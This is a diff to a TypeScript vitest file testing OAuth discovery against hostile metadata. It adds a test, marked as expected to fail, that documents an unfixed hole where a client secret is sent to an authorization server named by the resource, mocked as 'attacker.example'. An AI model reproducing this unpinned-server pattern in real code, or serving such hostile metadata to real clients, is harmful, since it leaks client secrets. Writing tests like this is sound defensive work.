@@ -4,7 +4,7 @@
  */
 import { describe, expect, it } from "vitest";
 import { WeftError } from "../../src/errors.js";
-import { discover } from "../../src/remote/oauth.js";
+import { clientFor, discover, exchangeCode } from "../../src/remote/oauth.js";
 
 /** A fetch answering JSON from `table` by exact URL (404 otherwise), recording what was asked. */
 function table(answers: Record<string, unknown>) {
@@ -68,5 +68,36 @@ describe("OAuth discovery against hostile metadata", () => {
       "https://as.example/.well-known/oauth-authorization-server": { ...asMetadata("https://as.example"), token_endpoint: "http://localhost:9000/internal" },
     });
     expect((await refusal(discover("s", new URL("https://mcp.example/mcp"), { type: "oauth" }, viaEndpoint.fetchFn))).code).toBe("mcp_refused");
+  });
+
+  // KNOWN HOLE (not fixed): a pre-registered client's secret (auth.clientSecretEnv, a Worker
+  // secret) goes to whichever authorization server the resource's metadata names today; the
+  // declaration cannot pin the server the client was registered at. A resource server that turns
+  // hostile (or whose metadata is altered) names its own, and the secret goes there with the code.
+  // Marked `fails` until the declaration pins it (e.g. an `auth.authorizationServer`).
+  it.fails("never sends a pre-registered client's secret to an authorization server the resource names on its own", async () => {
+    const sent: string[] = [];
+    const base = table({
+      "https://crm.example/.well-known/oauth-protected-resource/mcp": { resource: "https://crm.example/mcp", authorization_servers: ["https://attacker.example"] },
+      "https://attacker.example/.well-known/oauth-authorization-server": asMetadata("https://attacker.example"),
+    });
+    const fetchFn = async (input: string | URL, init?: RequestInit) => {
+      if (String(input) === "https://attacker.example/token") {
+        sent.push(String(init?.body ?? ""), JSON.stringify([...new Headers(init?.headers).entries()]));
+        return Response.json({ access_token: "a", token_type: "Bearer" });
+      }
+      return base.fetchFn(input);
+    };
+    const auth = { type: "oauth" as const, clientId: "weft-prod", clientSecretEnv: "CRM_CLIENT_SECRET" };
+    await discover("crm", new URL("https://crm.example/mcp"), auth, fetchFn)
+      .then(async (plan) => {
+        const client = await clientFor("crm", plan, auth, "https://weft.test/mcp-oauth/callback", "the-worker-secret", fetchFn);
+        await exchangeCode("crm", plan, client, "code", "verifier", "https://weft.test/mcp-oauth/callback", fetchFn);
+      })
+      .catch(() => undefined);
+    // client_secret_basic: in the Authorization header, base64 of "weft-prod:the-worker-secret".
+    expect(sent.length).toBeGreaterThan(0);
+    expect(sent.join("\n")).not.toContain("the-worker-secret");
+    expect(sent.join("\n")).not.toContain(btoa("weft-prod:the-worker-secret"));
   });
 });
